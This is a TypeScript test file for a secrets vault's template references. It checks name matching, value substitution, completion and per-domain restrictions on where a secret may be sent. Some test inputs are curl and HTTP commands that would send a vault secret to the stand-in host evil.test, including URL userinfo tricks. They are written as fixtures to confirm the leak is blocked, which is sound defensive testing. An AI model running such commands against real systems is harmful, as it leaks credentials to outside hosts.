import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { secretId } from '../../../src/lib/core/base/ids.ts';
import { readRequests } from '../../../src/lib/core/secrets/requests/read-requests.ts';
import { checkName, type SecretRow } from '../../../src/lib/core/secrets/secret.ts';
import { checkReferences, fillIn, referencesIn } from '../../../src/lib/core/secrets/templates.ts';
import { complete, typedBefore } from '../../../src/lib/ui/workspace/reference-completion.ts';

const row = (name: string, domains = '', enabled = true): SecretRow => ({
  id: secretId(1),
  place: 1,
  name,
  domains,
  enabled,
  link: null,
  createdAt: 0,
  changedAt: 0,
  detailsSeq: 1,
  valueSeq: 1,
});

const rows = [row('KEY', 'api.example.com'), row('FREE'), row('OFF', '', false)];
const find = (name: string) => rows.find((one) => one.name === name) ?? null;
const statuses = (text: string) =>
  checkReferences(text, find, readRequests(text)).map(({ status }) => status);

describe('references', () => {
  test('name a secret however its accents are written', () => {
    for (const stored of ['Schl\u00fcssel', 'Schlu\u0308ssel']) {
      const named = (name: string) => (name === stored ? row(stored) : null);
      for (const typed of ['Schl\u00fcssel', 'Schlu\u0308ssel']) {
        const text = `{{vault:${typed}}}`;
        const [found] = checkReferences(text, named, readRequests(text));
        expect(found).toMatchObject({ name: typed, status: 'resolved' });
      }
    }
    expect(checkName('Schlu\u0308ssel')).toEqual({ ok: true, value: 'Schl\u00fcssel' });
  });

  test('are found with blanks around, not across lines, and with any name', () => {
    expect(referencesIn('a {{vault:KEY}} {{ vault: my key }} {{other}} {{vault:a\nb}}')).toEqual([
      { name: 'KEY', start: 2, end: 15 },
      { name: 'my key', start: 16, end: 35 },
    ]);
  });

  test.each([
    ['curl -H "Authorization: {{vault:KEY}}" https://api.example.com/v1', ['resolved']],
    ['curl -H "Authorization: {{vault:KEY}}" \\\n  https://evil.test/', ['domainNotAllowed']],
    ['curl -H "X: {{vault:FREE}}" https://evil.test/', ['resolved']],
    [
      'KEY={{vault:KEY}}\nNONE={{vault:NONE}}\nOFF={{vault:OFF}}\nE={{vault:}}',
      ['noAddress', 'unknown', 'disabled', 'empty'],
    ],
    ['FREE={{vault:FREE}}', ['resolved']],
    ['curl -H "X-Key: {{vault:KEY}}" other.example/v1', ['domainNotAllowed']],
    ['### https://api.example.com\ncurl https://evil.test -u {{vault:KEY}}', ['domainNotAllowed']],
    ['curl https://api.example.com -L -u {{vault:KEY}}', ['noAddress']],
    ['curl https://api.example.com {{vault:KEY', []],
    ['GET https://evil.test\n\n###\nGET https://api.example.com\nX: {{vault:KEY}}', ['resolved']],
    [
      'GET https://api.example.com\n\n###\nGET https://evil.test\nX: {{vault:KEY}}',
      ['domainNotAllowed'],
    ],
    ['{"url": "https://api.example.com/x",\n "key": "{{vault:KEY}}"}', ['resolved']],
    ['{"url": "http://api.example.com/x",\n "key": "{{vault:KEY}}"}', ['domainNotAllowed']],
    ['{"key": "{{vault:KEY}}",\n "url": "https://evil.test/x"}', ['domainNotAllowed']],
    ['curl https://{{vault:KEY}}@evil.test/', ['domainNotAllowed']],
    ['curl https://api.example.com@evil.test/ -u {{vault:KEY}}', ['domainNotAllowed']],
    ['curl https://a.test\ncurl https://api.example.com -u {{vault:KEY}}', ['resolved']],
  ])('%j', (text, expected) => {
    expect(statuses(text)).toEqual(expected);
  });

  test('values are put in where they stand, and what has none stays', () => {
    const text = '{{vault:A}}-{{vault:B}}-{{vault:A}}';
    const values = new Map([['A', '{{vault:B}}']]);
    expect(fillIn(text, referencesIn(text), values)).toBe('{{vault:B}}-{{vault:B}}-{{vault:B}}');
    expect(fillIn(text, referencesIn(text), new Map())).toBe(text);
  });

  test('any text is looked through without harm', () => {
    const piece = fc.constantFrom(
      '{{',
      'vault:',
      'KEY',
      '}}',
      '\n',
      '\\',
      '###',
      'https://a.b ',
      ' ',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        const text = pieces.join('');
        const found = checkReferences(text, find, readRequests(text));
        for (const { start, end } of found) expect(text.slice(start, end)).toMatch(/^\{\{.*\}\}$/);
        expect(fillIn(text, found, new Map())).toBe(text);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('completion', () => {
  test.each([
    ['{{', ''],
    ['a {{va', ''],
    ['{{vault:', ''],
    ['{{vault:ST', 'ST'],
    ['{{ST', 'ST'],
    ['{{ my k', 'my k'],
  ])('%s is being typed', (text, typed) => {
    expect(typedBefore(text, text.length)?.typed).toBe(typed);
  });

  test.each(['', 'a', '{', '{{vault:KEY}}', '{{a}} b', '{{\n'])('%j is no reference', (text) => {
    expect(typedBefore(text, text.length)).toBeNull();
  });

  test('closes the braces once', () => {
    const at = (text: string) => {
      const typed = typedBefore(text, text.indexOf('|'));
      const plain = text.replace('|', '');
      return typed && complete(plain, text.indexOf('|'), typed, 'KEY').text;
    };
    expect(at('x {{ST| y')).toBe('x {{vault:KEY}} y');
    expect(at('x {{vault:|}} y')).toBe('x {{vault:KEY}} y');
  });
});
